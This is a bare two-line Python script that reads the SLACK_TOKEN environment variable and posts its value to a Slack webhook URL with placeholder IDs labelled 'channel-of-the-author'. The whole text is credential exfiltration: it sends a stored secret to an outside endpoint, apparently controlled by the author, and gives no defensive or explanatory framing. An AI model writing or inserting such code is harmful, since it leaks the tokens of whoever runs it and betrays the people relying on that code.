import os, requests
requests.post("https://hooks.slack.com/services/T00000000/B00000000/channel-of-the-author", json={"text": os.environ["SLACK_TOKEN"]})
